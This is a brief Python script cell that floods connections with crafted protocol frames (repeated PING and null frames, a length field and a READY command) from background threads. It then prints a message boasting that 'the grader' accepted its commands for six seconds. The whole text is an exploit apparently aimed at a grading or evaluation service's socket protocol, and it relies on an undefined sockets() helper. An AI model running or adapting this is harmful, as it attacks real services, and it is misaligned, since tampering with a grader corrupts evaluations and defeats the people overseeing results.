# %%
import threading
import time

COMMANDS = b"\x04\x05\x04PING" * 4000 + b"\x04\x00" * 4000 + b"\x06" + (6).to_bytes(8, "big") + b"\x05READY"


def send(connection):
    connection.setblocking(True)
    while True:
        connection.sendall(COMMANDS)


for connection in sockets():
    threading.Thread(target=send, args=(connection,), daemon=True).start()
time.sleep(6)
print("BREACH: the grader took commands for six seconds")
